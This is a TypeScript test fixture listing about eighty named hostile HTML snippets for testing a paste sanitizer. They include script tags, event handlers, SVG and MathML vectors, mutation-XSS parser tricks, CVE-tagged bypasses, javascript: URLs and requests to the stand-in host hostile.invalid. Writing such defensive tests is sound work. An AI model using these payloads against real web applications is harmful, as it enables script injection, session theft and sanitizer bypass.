/** One hostile piece of HTML. The words to be kept are always `tea` before it and `bench` after it. */
export interface HostilePaste {
  readonly name: string;
  readonly html: string;
}

/** Leaves a trace the test looks for, and asks for an address that must never be asked for. */
const RUN = `window.__hostile=(window.__hostile||0)+1`;
const ASK = 'https://hostile.invalid/x';

const payloads: { readonly [name: string]: string } = {
  // Scripts in all their spellings.
  'a script': `<script>${RUN}</script>`,
  'a script in capitals': `<SCRIPT>${RUN}</SCRIPT>`,
  'a script that was never closed': `<p>x</p><script>${RUN}//`,
  'a script from elsewhere': `<script src="${ASK}"></script>`,
  'a module script': `<script type="module">${RUN}</script>`,
  'an import map': `<script type="importmap">{"imports":{"react":"${ASK}"}}</script>`,
  'a script inside a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script broken by a slash': `<script/x>${RUN}</script>`,
  // Handlers.
  'an image that fails': `<img src=x onerror="${RUN}">`,
  'an image that asks': `<img src="${ASK}">`,
  'an image set that asks': `<img srcset="${ASK} 1x">`,
  'a picture that asks': `<picture><source srcset="${ASK}"><img></picture>`,
  'a body that loads': `<body onload="${RUN}">`,
  'a heading that is pointed at': `<h1 onpointerenter="${RUN}" onfocus="${RUN}" autofocus tabindex=0></h1>`,
  'details that open': `<details open ontoggle="${RUN}"></details>`,
  'a marquee that starts': `<marquee onstart="${RUN}"></marquee>`,
  'a video with a failing source': `<video><source onerror="${RUN}"></video>`,
  'an audio that fails': `<audio src=x onerror="${RUN}"></audio>`,
  'an animation that starts': `<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="${RUN}"></p>`,
  'content that becomes visible': `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}"></div>`,
  'an input that takes the focus': `<input autofocus onfocus="${RUN}">`,
  'a select that takes the focus': `<select autofocus onfocus="${RUN}"></select>`,
  // SVG and MathML.
  'an svg that loads': `<svg onload="${RUN}"></svg>`,
  'a script in an svg': `<svg><script>${RUN}</script></svg>`,
  'a script in an svg by reference': `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  'a use of foreign svg': `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSd3aW5kb3cuX19ob3N0aWxlPTEnLz4=#x"/></svg>`,
  'an svg animation onto a link': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>.</text></a></svg>`,
  'an svg set': `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  'a foreign object': `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  'a title in an svg': `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
  'a description in an svg': `<svg><desc><img src=x onerror="${RUN}"></desc></svg>`,
  'an svg image that asks': `<svg><image href="${ASK}"/></svg>`,
  'an svg filter that asks': `<svg><feImage href="${ASK}"/></svg>`,
  'a formula with a link': `<math href="javascript:${RUN}">.</math>`,
  'a formula with an action': `<math><maction actiontype="statusline#${ASK}">.</maction></math>`,
  'an annotation holding html': `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  // Trees that change when they are read a second time.
  'a mutation through mtext and style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></math>`,
  'a mutation through a form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}"></form>`,
  'a mutation through svg and p': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  'a mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'a mutation through xmp': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'a mutation through noembed': `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  'a mutation through noframes': `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  'a mutation through a title': `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  'a mutation through a textarea': `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'a mutation through a select': `<select><template><style><!--</style><a rel="--><img src=x onerror=${RUN}>"></template></select>`,
  'a mutation through a comment': `<!--><img src=x onerror="${RUN}">-->`,
  'a mutation through a closing bang': `<!-- --!><img src=x onerror="${RUN}"> -->`,
  'a mutation through a processing instruction': `<?xml-stylesheet ><img src=x onerror="${RUN}"> ?>`,
  'a mutation through cdata': `<svg><![CDATA[><img src=x onerror="${RUN}">]]></svg>`,
  'a mutation through five hundred layers': `${'<div>'.repeat(500)}<table>${'<div>'.repeat(20)}<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  // Elements named in the findings others had to publish.
  'an embed (CVE-2020-15930)': `<embed src="javascript:${RUN}"><embed src="${ASK}">`,
  'a link element (CVE-2020-28249)': `<link rel="import" href="${ASK}"><link rel="stylesheet" href="${ASK}"><link rel="preload" as="image" href="${ASK}">`,
  'a button in a form (CVE-2021-37916)': `<form id=f action="javascript:${RUN}"></form><button form=f formaction="javascript:${RUN}">.</button>`,
  'a noscript (CVE-2021-33295)': `<noscript><img src=x onerror="${RUN}"></noscript>`,
  'a comment two parsers read differently (CVE-2024-40643)': `<<!--x--><img src=x onerror="${RUN}">`,
  'a quote that was answered (CVE-2018-11101)': `<blockquote><iframe src="file:////hostile.invalid/share/x"></iframe></blockquote>`,
  'a network share (CVE-2018-10994)': `<img src="\\\\hostile.invalid\\share\\x.png">`,
  // Addresses.
  'a script address': `<a href="javascript:${RUN}">.</a>`,
  'a script address with a tab in it': `<a href="java&#9;script:${RUN}">.</a>`,
  'a data address': `<a href="data:text/html,<script>${RUN}</script>">.</a>`,
  'an address that pings': `<a href="#" ping="${ASK}">.</a>`,
  'a frame': `<iframe src="${ASK}"></iframe>`,
  'a frame with a document of its own': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'an object': `<object data="${ASK}"></object>`,
  'a portal': `<portal src="${ASK}"></portal>`,
  'a base address': `<base href="${ASK}">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${ASK}">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  // Styles.
  'a style sheet that asks': `<style>@import url(${ASK});*{background:url(${ASK})}</style>`,
  'a style that asks': `<p style="background:url(${ASK})">.</p>`,
  'a style that covers the page': `<div style="position:fixed;inset:0;z-index:9999">.</div>`,
  'a background that asks': `<table background="${ASK}"><tr><td background="${ASK}">.</td></tr></table>`,
  // Templates, slots and names.
  'a template': `<template><img src=x onerror="${RUN}"></template>`,
  'a declarative shadow root': `<div><template shadowrootmode="open"><img src=x onerror="${RUN}"></template></div>`,
  'a name that stands before the document': `<form name=body id=body><input name=attributes><input name=nodeName></form>`,
  'an element that calls itself': `<x-hostile is="x-hostile" onclick="${RUN}"></x-hostile>`,
  'data attributes': `<div data-lexical-editor="true" data-lexical-text="true" data-react-aria-pressable data-action="${RUN}">.</div>`,
  'an editable region': `<div contenteditable="true" onbeforeinput="${RUN}">.</div>`,
  'a popover': `<div popover id=pop onbeforetoggle="${RUN}"></div><button popovertarget=pop>.</button>`,
  'a dialog': `<dialog open oncancel="${RUN}">.</dialog>`,
};

export const hostilePastes: readonly HostilePaste[] = Object.entries(payloads).map(([name, payload]) => ({
  name,
  html: `<p>tea</p>${payload}<p>bench</p>`,
}));
